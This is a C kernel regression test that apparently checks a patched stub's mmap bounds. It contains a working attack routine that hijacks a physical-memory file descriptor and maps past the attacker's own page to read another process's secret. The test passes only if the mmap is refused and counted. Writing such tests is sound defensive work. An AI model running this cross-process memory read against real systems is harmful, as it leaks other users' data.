// SPDX-License-Identifier: GPL-2.0
/*
 * Attack: one mmap whose first page is legitimate and whose length runs
 * onto frames the attacker does not own.
 *
 * The attacker touches the first OWN_PAGES pages of a large region of
 * its own and looks up their frames. Only then does a victim process
 * fill VICTIM_PAGES private pages with a random secret and report their
 * frames, so that they tend to lie just above the attacker's (free
 * frames are mostly handed out in rising order). The attacker picks the
 * pair (own frame A at page i, victim frame V) with V above A and
 * closest to it. Through the physical-memory fd it then maps
 * frames A..V onto its region from page i on: the first page is its own
 * page at its own frame, exactly what a correct stub may map; every
 * later page is not granted by the PTE at that address. It reads the
 * page where frame V landed. If no victim frame is in reach, it maps two
 * pages instead and reads the second, a frame that is not its own.
 *
 * Succeeded: the victim's secret was read (or, in the fallback, the
 * frame that is not ours was mapped and readable). Refused: the mmap
 * failed with EPERM, or the attacker was killed while attempting it.
 *
 * Pass (the patched kernel's behaviour): refused, the kernel counted
 * the refused mmap (stub_stats mmap_denied grew across that step), and
 * afterwards the guest still forks and execs a program.
 */
#define _GNU_SOURCE
#include <sys/random.h>
#include "tap.h"
#include "hijack_fd.h"
#include "exec_helpers.h"

#define SECRET_BYTES	16
#define VICTIM_PAGES	1024
#define OWN_PAGES	256
#define REGION_PAGES	65536UL	/* how far past its first page a map may run */

struct victim_page {
	unsigned char secret[SECRET_BYTES];
	unsigned long index;
};

struct victim_report {
	unsigned char secret[SECRET_BYTES];
	unsigned long pfn[VICTIM_PAGES];
	int error;
};

struct attack_ctx {
	int go;		/* write a byte: the victim may allocate */
	int from_victim;	/* its struct victim_report */
};

static struct victim_report victim;

/*
 * Victim: when told, fill pages with the secret and publish their
 * frames; hold them until HOLD reaches end-of-file.
 */
static int victim_main(int go, int to_attacker, int hold)
{
	struct victim_report *rep = &victim;
	unsigned char *pages;
	const char *p;
	ssize_t left, n;
	int i, err = 0;
	char c;

	if (read(go, &c, 1) != 1)
		return 1;
	pages = mmap(NULL, VICTIM_PAGES * HIJACK_PAGE_SIZE,
		     PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS,
		     -1, 0);
	if (pages == MAP_FAILED ||
	    getrandom(rep->secret, SECRET_BYTES, 0) != SECRET_BYTES)
		err = errno;
	for (i = 0; !err && i < VICTIM_PAGES; i++) {
		struct victim_page *vp =
			(void *)(pages + i * HIJACK_PAGE_SIZE);

		memcpy(vp->secret, rep->secret, SECRET_BYTES);
		vp->index = i;
	}
	for (i = 0; !err && i < VICTIM_PAGES; i++)
		err = -hijack_page_frame(pages + i * HIJACK_PAGE_SIZE,
					 &rep->pfn[i]);
	rep->error = err;

	for (p = (const char *)rep, left = sizeof(*rep); left; left -= n) {
		n = write(to_attacker, p, left);
		if (n <= 0)
			return 1;
		p += n;
	}
	if (read(hold, &c, 1) < 0)
		return 1;
	return 0;
}

static int read_all(int fd, void *buf, size_t size)
{
	char *p = buf;
	ssize_t n;

	while (size) {
		n = read(fd, p, size);
		if (n <= 0)
			return -1;
		p += n;
		size -= n;
	}
	return 0;
}

/* The closest victim frame above one of ours, within the region. */
static int pick_pair(const unsigned long *own, int *own_index,
		     int *victim_index)
{
	unsigned long best = ~0UL;
	int i, j;

	for (i = 0; i < OWN_PAGES; i++) {
		for (j = 0; j < VICTIM_PAGES; j++) {
			unsigned long dist = victim.pfn[j] - own[i];

			if (victim.pfn[j] <= own[i] ||
			    i + dist >= REGION_PAGES || dist >= best)
				continue;
			best = dist;
			*own_index = i;
			*victim_index = j;
		}
	}
	return best == ~0UL ? -1 : 0;
}

static int is_own(const unsigned long *own, unsigned long pfn)
{
	int i;

	for (i = 0; i < OWN_PAGES; i++)
		if (own[i] == pfn)
			return 1;
	return 0;
}

static int attack(void *arg, int report)
{
	const struct attack_ctx *ctx = arg;
	static unsigned long own[OWN_PAGES];
	unsigned long first, pages, want_pfn;
	const struct victim_page *seen;
	int i, j, err, fallback = 0;
	struct stub_hijack h;
	struct hijack_fd f;
	unsigned char *region;
	long res;
	char c = 1;

	attack_stage(report, 0, "finding the stub");
	if (hijack_init(&h)) {
		attack_verdict(report, ATTACK_INCONCLUSIVE, "stub not found");
		return 0;
	}
	if (attack_get_fd(report, &h, &f))
		return 0;

	region = mmap(NULL, REGION_PAGES * HIJACK_PAGE_SIZE,
		      PROT_READ | PROT_WRITE,
		      MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	if (region == MAP_FAILED) {
		attack_verdict(report, ATTACK_INCONCLUSIVE, "mmap: %s",
			       strerror(errno));
		return 0;
	}
	for (i = 0; i < OWN_PAGES; i++) {
		memset(region + i * HIJACK_PAGE_SIZE, 0x22, HIJACK_PAGE_SIZE);
		err = hijack_page_frame(region + i * HIJACK_PAGE_SIZE,
					&own[i]);
		if (err) {
			attack_verdict(report, ATTACK_INCONCLUSIVE,
				       "pagemap: %s", strerror(-err));
			return 0;
		}
	}

	/* Our frames are taken: now the victim's. */
	if (write(ctx->go, &c, 1) != 1 ||
	    read_all(ctx->from_victim, &victim, sizeof(victim)) ||
	    victim.error) {
		attack_verdict(report, ATTACK_INCONCLUSIVE,
			       "the victim did not publish its frames: %s",
			       strerror(victim.error ? victim.error : EIO));
		return 0;
	}
	attack_stage(report, 0, "victim frames %#lx..., ours %#lx...",
		     victim.pfn[0], own[0]);

	if (pick_pair(own, &i, &j) == 0) {
		want_pfn = victim.pfn[j];
		pages = want_pfn - own[i] + 1;
	} else {
		/* No victim frame in reach: the next frame not ours. */
		fallback = 1;
		for (i = 0; i < OWN_PAGES && is_own(own, own[i] + 1); i++)
			;
		if (i == OWN_PAGES) {
			attack_verdict(report, ATTACK_INCONCLUSIVE,
				       "no frame next to ours is foreign");
			return 0;
		}
		want_pfn = own[i] + 1;
		pages = 2;
	}
	first = (unsigned long)region + i * HIJACK_PAGE_SIZE;

	attack_stage(report, 1, "mapping %lu pages from our page at frame "
		     "%#lx, through frame %#lx", pages, own[i], want_pfn);
	res = hijack_mmap(&h, first, pages * HIJACK_PAGE_SIZE, PROT_READ,
			  f.fd, own[i] * HIJACK_PAGE_SIZE);
	if (res == -EPERM) {
		attack_verdict(report, ATTACK_REFUSED,
			       "mmap of %lu pages from our frame %#lx through "
			       "fd %d: EPERM", pages, own[i], f.fd);
		return 0;
	}
	if (res != (long)first) {
		attack_verdict(report, ATTACK_INCONCLUSIVE,
			       "mmap of %lu pages from our frame %#lx through "
			       "fd %d returned %ld", pages, own[i], f.fd, res);
		return 0;
	}

	attack_stage(report, 0, "reading frame %#lx", want_pfn);
	seen = (const void *)(first + (pages - 1) * HIJACK_PAGE_SIZE);
	if (fallback) {
		attack_verdict(report, ATTACK_SUCCEEDED,
			       "mapped %lu pages from our frame %#lx; frame "
			       "%#lx, not ours, is readable (first byte %#x); "
			       "no victim frame was in reach", pages, own[i],
			       want_pfn, *(const unsigned char *)seen);
	} else if (memcmp(seen->secret, victim.secret, SECRET_BYTES) == 0 &&
		   seen->index == (unsigned long)j) {
		attack_verdict(report, ATTACK_SUCCEEDED,
			       "one mmap of %lu pages from our frame %#lx read "
			       "the victim's secret in frame %#lx (fd %d, %s)",
			       pages, own[i], want_pfn, f.fd,
			       f.origin == HIJACK_FD_HELD ? "held" : "stolen");
	} else {
		attack_verdict(report, ATTACK_INCONCLUSIVE,
			       "frames %#lx..%#lx mapped, but frame %#lx does "
			       "not hold the victim's secret", own[i],
			       want_pfn, want_pfn);
	}
	return 0;
}

int main(int argc, char **argv)
{
	struct attack_outcome out = { .verdict = ATTACK_INCONCLUSIVE };
	int go[2], to_attacker[2], hold[2], status;
	char helper[PATH_MAX], why[128] = "";
	struct attack_ctx ctx;
	pid_t pid;

	(void)argc;
	tap_plan(3);
	helper_path(argv[0], helper, sizeof(helper));

	if (pipe(go) || pipe(to_attacker) || pipe(hold)) {
		snprintf(out.detail, sizeof(out.detail), "pipe: %s",
			 strerror(errno));
		goto report;
	}
	fflush(stdout);
	pid = fork();
	if (pid < 0) {
		snprintf(out.detail, sizeof(out.detail), "fork: %s",
			 strerror(errno));
		goto report;
	}
	if (pid == 0) {
		close(go[1]);
		close(to_attacker[0]);
		close(hold[1]);
		_exit(victim_main(go[0], to_attacker[1], hold[0]));
	}
	close(go[0]);
	close(to_attacker[1]);
	close(hold[0]);

	ctx.go = go[1];
	ctx.from_victim = to_attacker[0];
	attack_run_retrying(attack, &ctx, &out);

	close(hold[1]);		/* the victim may go */
	close(go[1]);
	close(to_attacker[0]);
	waitpid(pid, &status, 0);

report:
	attack_print("range", &out);
	tap_result(out.verdict == ATTACK_REFUSED,
		   "a map running past its legitimate first page is refused "
		   "(%s)", attack_verdict_names[out.verdict]);
	attack_expect_counted(&out, "mmap_denied",
			      "the refused mmap past our first page");
	tap_result(run_once(helper, why, sizeof(why)) == 0,
		   "fork and exec still work after the attack%s%s",
		   why[0] ? ": " : "", why[0] ? why : "");
	return tap_exit_status();
}
